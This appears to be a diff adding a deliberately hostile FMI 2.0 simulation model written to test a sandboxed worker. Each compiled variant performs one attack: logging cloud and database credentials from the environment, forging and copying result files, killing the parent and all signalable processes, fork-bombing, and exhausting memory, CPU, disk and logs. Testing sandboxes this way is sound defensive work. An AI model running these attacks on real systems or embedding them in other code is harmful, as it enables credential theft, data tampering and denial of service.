@@ -1,0 +1,174 @@
+/*
+ * hostile: one FMI 2.0 Co-Simulation model, many attacks. Compiled once per attack with -DATTACK=<n>
+ * (tests/hostile_fmus.py); at its first fmi2DoStep it does what a hostile upload would do to the worker that
+ * runs it. TARGET (a folder: the store, DAGSTER_HOME, the landing zone) is compiled in by the tests, as an
+ * attacker would guess it. Written for the tests only: nothing here is meant to be run outside the sandbox.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "fmu_common.h"
+
+#ifndef TARGET
+#define TARGET "/nonexistent"
+#endif
+
+enum {
+    ENV_SECRETS = 1,  /* read credentials from the environment and log them */
+    TAMPER = 2,       /* rewrite every output.json under TARGET, drop files into TARGET, copy uploads out */
+    KILL_PARENT = 3,  /* SIGKILL the parent, every process it can see, and its session */
+    ORPHAN = 4,       /* leave a daemon holding stdout/stderr open, then finish at once */
+    MEMORY = 5,       /* allocate and touch memory until malloc fails, then crash */
+    HUGE_STDERR = 6,  /* one 10 MB stderr line, then crash */
+    FORK_BOMB = 7,    /* fork until fork fails, then abort */
+    CPU_BURN = 8,     /* spin the CPU forever */
+    FILE_SIZE = 9,    /* write one ever-growing file */
+    FORGE = 10,       /* leave a forged child.json and a result.npy symlinked to another file, exit 0 */
+    HUGE_LOG = 11,    /* 20,000 log lines of 20 KB through the FMI logger */
+};
+
+enum { VR_Y };
+
+static const FmuRealVariable reals[] = {
+    [VR_Y] = {"y", FMU_OUTPUT, 0.0},
+};
+
+static int done = 0;
+
+static void tamper(const char *dir, int depth) {
+    DIR *d = opendir(dir);
+    if (d == NULL || depth > 8) {
+        if (d) closedir(d);
+        return;
+    }
+    struct dirent *e;
+    char path[4096];
+    while ((e = readdir(d)) != NULL) {
+        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0) continue;
+        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
+        struct stat st;
+        if (lstat(path, &st) != 0) continue;
+        if (S_ISDIR(st.st_mode)) {
+            tamper(path, depth + 1);
+        } else if (strcmp(e->d_name, "output.json") == 0) {
+            FILE *f = fopen(path, "w");
+            if (f) { fputs("{\"status\": \"success\", \"forged\": true}", f); fclose(f); }
+        } else {
+            char copy[4200];
+            snprintf(copy, sizeof copy, "stolen-%s", e->d_name); /* into the FMU's own folder */
+            FILE *in = fopen(path, "rb"), *out = fopen(copy, "wb");
+            if (in && out) { int c; while ((c = fgetc(in)) != EOF) fputc(c, out); }
+            if (in) fclose(in);
+            if (out) fclose(out);
+        }
+    }
+    closedir(d);
+    snprintf(path, sizeof path, "%s/pwned-by-hostile-fmu", dir);
+    FILE *f = fopen(path, "w");
+    if (f) { fputs("pwned", f); fclose(f); }
+}
+
+static fmi2Status attack(FmuInstance *inst) {
+    switch (ATTACK) {
+    case ENV_SECRETS: {
+        const char *names[] = {"AWS_SECRET_ACCESS_KEY", "MODAL_TOKEN_SECRET", "DAGSTER_PG_PASSWORD",
+                               "GOOGLE_APPLICATION_CREDENTIALS", "DAGSTER_HOME"};
+        for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
+            const char *v = getenv(names[i]);
+            fmu_log(inst, fmi2Warning, "logStatusWarning", "leak %s=%s", names[i], v ? v : "(unset)");
+        }
+        return fmi2OK;
+    }
+    case TAMPER:
+        tamper(TARGET, 0);
+        return fmi2OK;
+    case KILL_PARENT:
+        kill(getppid(), SIGKILL);
+        kill(0, SIGKILL);   /* own process group: would include the worker without a new session */
+        kill(-1, SIGKILL);  /* every process this user may signal */
+        return fmi2OK;
+    case ORPHAN: {
+        pid_t pid = fork();
+        if (pid == 0) {
+            setsid();
+            execl("/bin/sleep", "sleep", "313.25", (char *)NULL);
+            _exit(0);
+        }
+        return fmi2OK;
+    }
+    case MEMORY:
+        for (;;) {
+            char *p = malloc(1 << 20);
+            if (p == NULL) abort();
+            memset(p, 1, 1 << 20);
+        }
+    case HUGE_STDERR: {
+        size_t n = 10u << 20;
+        char *line = malloc(n + 1);
+        if (line == NULL) abort();
+        memset(line, 'E', n);
+        line[n] = '\0';
+        fputs(line, stderr);
+        fputc('\n', stderr);
+        fflush(stderr);
+        abort();
+    }
+    case FORK_BOMB:
+        for (;;) {
+            pid_t pid = fork();
+            if (pid == 0) { pause(); _exit(0); }
+            if (pid < 0) { perror("fork failed"); abort(); }
+        }
+    case CPU_BURN: {
+        volatile unsigned long x = 0;
+        for (;;) x++;
+    }
+    case FILE_SIZE: {
+        FILE *f = fopen("grow.bin", "wb");
+        static char chunk[1 << 20];
+        memset(chunk, 7, sizeof chunk);
+        for (;;) {
+            if (f == NULL || fwrite(chunk, 1, sizeof chunk, f) != sizeof chunk || fflush(f) != 0) {
+                perror("write grow.bin");
+                return fmi2Error;
+            }
+        }
+    }
+    case FORGE: {
+        FILE *f = fopen("child.json", "w");
+        if (f) { fputs("{\"ok\": true, \"simulation_time_reached\": 1.0, \"fmu_log\": []}", f); fclose(f); }
+        unlink("result.npy");
+        if (symlink(TARGET, "result.npy") != 0) perror("symlink");
+        _exit(0);
+    }
+    case HUGE_LOG: {
+        static char big[20000];
+        memset(big, 'L', sizeof big - 1);
+        for (int i = 0; i < 20000; i++) fmu_log(inst, fmi2Warning, "logStatusWarning", "%s", big);
+        return fmi2OK;
+    }
+    }
+    return fmi2OK;
+}
+
+static fmi2Status do_step(FmuInstance *inst, fmi2Real t, fmi2Real h) {
+    if (!done) {
+        done = 1;
+        fmi2Status status = attack(inst);
+        if (status != fmi2OK) return status;
+    }
+    inst->reals[VR_Y] = t + h;
+    return fmi2OK;
+}
+
+const FmuModel fmu_model = {
+    .reals = reals,
+    .n_reals = sizeof reals / sizeof reals[0],
+    .do_step = do_step,
+};
